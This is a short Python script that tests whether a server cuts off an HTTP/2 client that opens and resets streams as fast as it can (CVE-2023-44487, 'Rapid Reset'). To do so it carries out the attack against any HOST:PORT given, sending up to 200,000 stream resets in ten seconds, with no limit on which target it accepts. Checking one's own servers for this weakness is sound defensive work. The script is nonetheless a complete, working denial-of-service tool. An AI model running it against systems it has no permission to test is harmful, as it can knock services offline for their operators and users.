"""Is a client that opens and resets HTTP/2 streams as fast as it can (CVE-2023-44487) cut off?

usage: rapid_reset.py HOST:PORT. Exit code 0: the server ended the connection; 1: it served on for ever;
3: the package h2 is missing.
"""
import socket
import sys
import time

try:
    import h2.config
    import h2.connection
    import h2.events
except ImportError as missing:
    print(f"{missing} (pip install h2)")
    sys.exit(3)

host, port = sys.argv[1].rsplit(":", 1)
sock = socket.create_connection((host, int(port)), timeout=10)
client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
client.initiate_connection()
sock.sendall(client.data_to_send())
fields = [(":method", "GET"), (":path", "/healthz"), (":scheme", "http"), (":authority", sys.argv[1])]
began, resets, answered = time.monotonic(), 0, 0
sock.setblocking(False)
while time.monotonic() - began < 10 and resets < 200_000:
    try:
        for _ in range(100):
            stream = client.get_next_available_stream_id()
            client.send_headers(stream, fields, end_stream=True)
            client.reset_stream(stream)
            resets += 1
        sock.setblocking(True)
        sock.sendall(client.data_to_send())
        sock.setblocking(False)
        data = sock.recv(65536)
        if not data:
            break
        for event in client.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                print(f"cut off after {resets} resets with code {event.error_code}")
                sys.exit(0)
    except BlockingIOError:
        continue
    except OSError as error:
        print(f"cut off after {resets} resets ({type(error).__name__})")
        sys.exit(0)
    except h2.exceptions.ProtocolError:
        print(f"cut off after {resets} resets")
        sys.exit(0)
print(f"{resets} resets in {time.monotonic() - began:.0f} s and still served")
sys.exit(1 if resets >= 200_000 or time.monotonic() - began >= 10 else 0)
